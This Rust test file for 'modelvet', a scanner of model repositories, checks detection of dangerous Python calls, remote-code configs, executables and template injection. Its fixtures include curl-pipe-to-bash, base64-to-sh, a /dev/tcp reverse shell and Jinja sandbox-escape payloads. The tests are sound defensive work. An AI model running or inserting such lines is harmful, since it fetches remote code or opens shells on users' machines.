//! The other files of a model repository: Python, configs, shell scripts,
//! binaries, notebooks, LFS pointers, plain text.

use modelvet_core::{
    scan_artifact, ArtifactScan, Format, Location, ScanOptions, Severity, SliceSource,
};

fn scan(name: &str, bytes: &[u8]) -> ArtifactScan {
    scan_artifact(name, &mut SliceSource::new(bytes), &ScanOptions::default())
}

fn rules(s: &ArtifactScan) -> Vec<&str> {
    s.findings.iter().map(|f| f.rule_id.as_str()).collect()
}

const BENIGN_MODELING: &str = r#"# coding=utf-8
"""A custom model. Do not call os.system("x") here."""
import math
import torch
from torch import nn
from transformers import PreTrainedModel


class TinyModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(4, 4)
        self.note = 'eval("nothing") in a string'

    def forward(self, x):
        # exec(x) in a comment is not a call
        return self.proj(x) * math.sqrt(2)


def load_extra(path):
    model = TinyModel(None)
    model.eval()
    return torch.load(path, map_location="cpu", weights_only=True)
"#;

#[test]
fn benign_python_only_notes_custom_code() {
    let s = scan("modeling_tiny.py", BENIGN_MODELING.as_bytes());
    assert_eq!(s.format, Some(Format::Python));
    assert_eq!(rules(&s), vec!["python-custom-code"], "{:?}", s.findings);
}

#[test]
fn dangerous_python_calls_with_lines() {
    let src = "import subprocess as sp\nfrom os import system\nimport urllib.request\nimport pickle, torch\n\
               sp.run(['id'])\nsystem('id')\neval(code)\nexec(code)\n__import__('os')\n\
               pickle.loads(b)\ntorch.load('x.pt')\nurllib.request.urlopen(u)\nimport os.path\nos.popen('id')\n\
               getattr(os, 'sys' + 'tem')('id')\ngetattr(self, 'forward')(x)\n";
    let s = scan("modeling_evil.py", src.as_bytes());
    let calls: Vec<(String, u64)> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "python-dangerous-call")
        .map(|f| match &f.location {
            Location::Line { line } => (f.message.clone(), *line),
            other => panic!("{other:?}"),
        })
        .collect();
    let expect = [
        ("subprocess.run", 5),
        ("os.system", 6),
        ("eval", 7),
        ("exec", 8),
        ("__import__", 9),
        ("pickle.loads", 10),
        ("torch.load", 11),
        ("urllib.request.urlopen", 12),
        ("os.popen", 14),
        ("getattr", 15),
    ];
    assert_eq!(calls.len(), expect.len(), "{calls:?}");
    for ((msg, line), (name, want)) in calls.iter().zip(expect) {
        assert!(msg.contains(&format!("`{name}`")), "{msg} vs {name}");
        assert_eq!(*line, want, "{msg}");
    }
    let eval = s
        .findings
        .iter()
        .find(|f| f.message.contains("`eval`"))
        .unwrap();
    assert_eq!(eval.severity, Severity::High);
    assert_eq!(eval.evidence.as_deref(), Some("eval(code)"));
}

#[test]
fn f_string_fields_are_code() {
    let s = scan("m.py", b"import os\nx = f\"{os.system('id')}\"\ny = f'{{os.system}} {name!r:>10}'\nz = 'os.system(1)'\n");
    let calls: Vec<u64> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "python-dangerous-call")
        .map(|f| match f.location {
            Location::Line { line } => line,
            _ => 0,
        })
        .collect();
    assert_eq!(calls, vec![2]);
}

#[test]
fn star_imports_resolve_bare_calls() {
    let s = scan(
        "m.py",
        b"from subprocess import *\nfrom math import *\nPopen(['id'])\nsqrt(2)\n",
    );
    let calls: Vec<&str> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "python-dangerous-call")
        .map(|f| f.message.as_str())
        .collect();
    assert_eq!(calls.len(), 1, "{calls:?}");
    assert!(calls[0].contains("subprocess.Popen"));
}

#[test]
fn auto_map_needs_remote_code() {
    let config = br#"{"architectures": ["TinyModel"], "auto_map": {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModelForCausalLM": "modeling_tiny.TinyModel"}, "model_type": "tiny"}"#;
    let s = scan("config.json", config);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "config-remote-code")
        .expect("finding");
    assert!(
        f.message.contains("modeling_tiny.py") && f.message.contains("configuration_tiny.py"),
        "{}",
        f.message
    );
    assert_eq!(f.severity, Severity::Medium);
    assert_eq!(
        s.facts["config.auto_map"]["files"]
            .as_array()
            .unwrap()
            .len(),
        2
    );

    let tok =
        br#"{"auto_map": {"AutoTokenizer": ["other/repo--tokenization_x.XTokenizer", null]}}"#;
    let s = scan("tokenizer_config.json", tok);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "config-remote-code")
        .expect("finding");
    assert_eq!(f.severity, Severity::High);
    assert!(f.message.contains("other/repo"));

    let plain =
        br#"{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 4096}"#;
    let s = scan("config.json", plain);
    assert!(s.findings.is_empty(), "{:?}", s.findings);
}

#[test]
fn tokenizer_config_chat_templates() {
    let evil = br#"{"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#;
    let s = scan("tokenizer_config.json", evil);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "chat-template-injection")
        .expect("finding");
    assert_eq!(
        f.location,
        Location::JsonPointer {
            pointer: "/chat_template".into()
        }
    );

    let named = br#"{"chat_template": [{"name": "default", "template": "{{ messages[0]['content'] }}"}, {"name": "tool_use", "template": "{{ lipsum.__globals__ }}"}]}"#;
    let s = scan("tokenizer_config.json", named);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "chat-template-injection")
        .expect("finding");
    assert_eq!(
        f.location,
        Location::JsonPointer {
            pointer: "/chat_template/1/template".into()
        }
    );

    let benign = format!(
        r#"{{"chat_template": {}}}"#,
        serde_json::to_string(modelvet_testkit::gguf::CHATML).unwrap()
    );
    assert!(scan("tokenizer_config.json", benign.as_bytes())
        .findings
        .is_empty());

    let s = scan(
        "chat_template.jinja",
        b"{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    );
    assert!(rules(&s).contains(&"chat-template-injection"));
}

#[test]
fn json_duplicates_errors_and_limits() {
    let s = scan("config.json", br#"{"a": 1, "b": {"c": 1, "c": 2}}"#);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "json-malformed")
        .expect("dup");
    assert_eq!(
        f.location,
        Location::JsonPointer {
            pointer: "/b/c".into()
        }
    );
    assert!(rules(&scan("config.json", b"{\"a\": [1, 2}")).contains(&"json-malformed"));

    let mut opts = ScanOptions::default();
    opts.limits.repo.max_json_bytes = 8;
    let s = scan_artifact(
        "config.json",
        &mut SliceSource::new(br#"{"a": 1, "b": 2}"#),
        &opts,
    );
    assert!(s
        .errors
        .iter()
        .any(|e| e.message.contains("max_json_bytes")));
}

#[test]
fn shell_scripts() {
    let evil = "#!/bin/bash\nset -e\ncurl -fsSL https://example.invalid/x.sh | bash\necho aGk= | base64 -d | sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";
    let s = scan("setup.sh", evil.as_bytes());
    assert_eq!(s.format, Some(Format::Shell));
    let lines: Vec<Location> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "shell-remote-exec")
        .map(|f| f.location.clone())
        .collect();
    assert_eq!(
        lines,
        vec![
            Location::Line { line: 3 },
            Location::Line { line: 4 },
            Location::Line { line: 5 }
        ]
    );

    let s = scan(
        "download.sh",
        b"#!/bin/sh\nwget https://example.invalid/weights.bin\n",
    );
    assert_eq!(rules(&s), vec!["shell-download"]);
    let s = scan(
        "train.sh",
        b"#!/bin/sh\n# curl | sh in a comment\npython train.py --epochs 3\n",
    );
    assert!(s.findings.is_empty(), "{:?}", s.findings);
}

#[test]
fn executables_are_always_findings() {
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.resize(64, 0);
    elf[16] = 3;
    let s = scan("pytorch_model.bin", &elf);
    assert_eq!(s.format, Some(Format::Elf));
    assert!(rules(&s).contains(&"repo-executable"));
    assert!(rules(&s).contains(&"extension-mismatch"));
    assert_eq!(
        s.facts["executable.kind"],
        "64-bit ELF shared object or PIE executable"
    );

    let mut pe = b"MZ".to_vec();
    pe.resize(0x40, 0);
    pe[0x3c] = 0x40;
    pe.extend_from_slice(b"PE\0\0");
    pe.resize(0x80, 0);
    assert!(rules(&scan("x.dll", &pe)).contains(&"repo-executable"));
    assert!(
        rules(&scan("lib.dylib", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01")).contains(&"repo-executable")
    );
}

#[test]
fn notebooks() {
    let nb = serde_json::json!({
        "nbformat": 4, "nbformat_minor": 5, "metadata": {},
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": ["# os.system('x') in markdown"]},
            {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 1,
             "source": ["import os\n", "os.system('id')\n"]},
            {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 2,
             "source": "!curl -s https://example.invalid/x | sh\n%matplotlib inline\nprint(1)"}
        ]
    });
    let s = scan("demo.ipynb", nb.to_string().as_bytes());
    assert_eq!(s.format, Some(Format::Notebook));
    assert_eq!(s.facts["notebook.code_cells"], 2);
    let call = s
        .findings
        .iter()
        .find(|f| f.rule_id == "python-dangerous-call")
        .expect("call");
    assert_eq!(
        call.location,
        Location::JsonPointer {
            pointer: "/cells/1".into()
        }
    );
    assert!(call.message.contains("line 2"));
    assert!(rules(&s).contains(&"shell-remote-exec"));

    let benign = serde_json::json!({"nbformat": 4, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "outputs": [], "source": "from transformers import pipeline\np = pipeline('text-generation')\n!pip install transformers"}]});
    let s = scan("demo.ipynb", benign.to_string().as_bytes());
    assert!(s.findings.is_empty(), "{:?}", s.findings);
}

#[test]
fn lfs_pointers() {
    let ptr = b"version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n";
    let s = scan("model.safetensors", ptr);
    assert_eq!(s.format, Some(Format::LfsPointer));
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "lfs-pointer")
        .expect("finding");
    assert!(f.message.contains("sha256:4d7a2146") && f.message.contains("12345"));
    assert_eq!(s.facts["lfs.pointer"]["size"], 12345);
}

#[test]
fn plain_text_and_json_pass() {
    assert!(scan("README.md", b"# Tiny model\n\nRun `pip install x`.\n")
        .findings
        .is_empty());
    assert!(scan("vocab.json", br#"{"a": 0, "b": 1}"#)
        .findings
        .is_empty());
    assert!(scan(
        "generation_config.json",
        br#"{"do_sample": true, "temperature": 0.6}"#
    )
    .findings
    .is_empty());
}

#[test]
fn deep_json_is_read_as_deep_as_python_and_fails_closed_beyond() {
    // 5,000 levels: CPython 3.13's json.loads reads up to 9,998 (measured),
    // serde_json stops at 128. The auto_map after the deep value is still seen.
    let deep = format!(
        r#"{{"pad": {}1{}, "auto_map": {{"AutoModel": "other/repo--modeling_x.X"}}}}"#,
        "[".repeat(5000),
        "]".repeat(5000)
    );
    let s = scan("config.json", deep.as_bytes());
    assert_eq!(rules(&s), ["config-remote-code"], "{:?}", s.findings);
    // Deeper than modelvet reads: high, not a pass.
    let n = modelvet_core::formats::tensors::json::MAX_JSON_DEPTH + 1;
    let deeper = format!("{}{}", "[".repeat(n), "]".repeat(n));
    let s = scan("config.json", deeper.as_bytes());
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "json-malformed")
        .expect("finding");
    assert_eq!(f.severity, Severity::High);
}
